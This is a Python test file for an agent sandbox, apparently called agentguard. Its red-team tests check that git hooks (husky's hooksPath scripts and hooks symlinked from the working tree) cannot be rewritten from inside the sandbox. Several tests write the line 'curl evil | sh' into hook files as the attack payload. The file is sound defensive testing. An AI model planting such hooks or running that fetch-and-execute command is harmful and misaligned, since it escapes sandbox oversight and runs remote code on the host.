"""Red team: hooks that run a working-tree file the read-only mounts did not cover.

- husky 9 sets ``core.hooksPath = .husky/_``; each hook there runs ``.husky/<hook>``, the user's
  script one directory up: only ``.husky/_`` was read-only, so code wrote ``.husky/pre-commit``.
- A hook kept in the checkout and linked into the git directory (``.git/hooks/pre-commit ->
  ../../scripts/pre-commit``, or ``.git/hooks -> ../githooks``): the link is read-only with ``.git``,
  what it names was not.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from agentguard.errors import SandboxError
from agentguard.sandbox._protect import protected_mounts
from agentguard.sandbox._quarantine import Watch
from tests.sandbox.rw_rig import git, read_only, run_rw

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="host git makes the repositories")

HOOK = "#!/bin/sh\necho checked\n"
HUSKY_H = 'n=$(basename "$0")\ns=$(dirname "$(dirname "$0")")/$n\nsh -e "$s" "$@"\n'


def _husky(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    (ws / ".husky" / "_").mkdir(parents=True)
    (ws / ".husky" / "_" / "h").write_text(HUSKY_H)
    (ws / ".husky" / "_" / "pre-commit").write_text('#!/usr/bin/env sh\n. "$(dirname "$0")/h"\n')
    (ws / ".husky" / "pre-commit").write_text("npm test\n")
    git("-C", str(ws), "config", "core.hooksPath", ".husky/_")
    return ws


def test_husky_scripts_beside_its_hooks_directory_are_read_only(tmp_path: Path) -> None:
    assert read_only(_husky(tmp_path)) == {"/workspace/.git", "/workspace/.husky"}


@pytest.mark.docker
def test_husky_scripts_cannot_be_written(images: object, tmp_path: Path) -> None:
    ws = _husky(tmp_path)
    result = run_rw(ws, tmp_path / "state", "echo 'curl evil | sh' >> .husky/pre-commit; echo ok > notes.txt")
    assert (ws / ".husky" / "pre-commit").read_text() == "npm test\n"
    assert (ws / "notes.txt").read_text() == "ok\n"
    assert "Read-only file system" in result.stderr


def _linked_hook(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    (ws / "scripts").mkdir()
    (ws / "scripts" / "pre-commit").write_text(HOOK)
    (ws / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/pre-commit")
    (ws / ".git" / "hooks" / "pre-push").symlink_to("../../scripts/pre-push")  # not there yet
    return ws


def test_a_hook_linked_into_the_working_tree_is_read_only(tmp_path: Path) -> None:
    assert read_only(_linked_hook(tmp_path)) == {"/workspace/.git", "/workspace/scripts/pre-commit"}


def test_a_hooks_directory_linked_into_the_working_tree_is_read_only(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    shutil.rmtree(ws / ".git" / "hooks")
    (ws / "githooks").mkdir()
    (ws / "githooks" / "pre-commit").write_text(HOOK)
    (ws / ".git" / "hooks").symlink_to("../githooks")
    assert read_only(ws) == {"/workspace/.git", "/workspace/githooks"}


def test_a_hook_a_link_names_is_set_aside_when_made(tmp_path: Path) -> None:
    ws = _linked_hook(tmp_path)
    watch = Watch(str(ws.resolve()))
    before = watch.snapshot()
    (ws / "scripts" / "pre-push").write_text("curl evil | sh\n")
    assert [m.split(" -> ")[0] for m in watch.settle(before)] == ["scripts/pre-push"]


def test_a_hook_linked_through_a_working_tree_symlink_is_refused(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    (ws / "real").mkdir()
    (ws / "real" / "pre-commit").write_text(HOOK)
    (ws / "scripts").symlink_to("real")  # code could point it elsewhere
    (ws / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/pre-commit")
    with pytest.raises(SandboxError, match="symlink"):
        protected_mounts(str(ws.resolve()))


@pytest.mark.docker
def test_a_linked_hook_cannot_be_written(images: object, tmp_path: Path) -> None:
    ws = _linked_hook(tmp_path)
    result = run_rw(
        ws, tmp_path / "state", "echo 'curl evil | sh' >> scripts/pre-commit; echo ok > notes.txt"
    )
    assert (ws / "scripts" / "pre-commit").read_text() == HOOK
    assert (ws / "notes.txt").read_text() == "ok\n"
    assert "Read-only file system" in result.stderr
